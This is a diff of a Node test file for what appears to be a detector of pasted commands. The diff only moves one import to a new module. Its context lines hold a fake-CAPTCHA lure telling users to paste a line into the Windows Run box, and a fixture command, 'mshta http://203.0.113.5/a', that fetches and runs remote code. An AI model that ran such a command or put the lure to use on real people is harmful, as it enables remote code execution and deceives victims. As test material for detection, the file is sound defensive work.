@@ -1,6 +1,7 @@
 import assert from 'node:assert/strict'
 import { test } from 'node:test'
-import { AROUND, opensWindow, pastedCommand } from './pasting.ts'
+import { opensWindow } from './command-windows.ts'
+import { AROUND, pastedCommand } from './pasting.ts'
 
 const LURE = 'Verify that you are human: press Windows + R, paste the line and press Enter.'
 const COMMAND = 'mshta http://203.0.113.5/a'
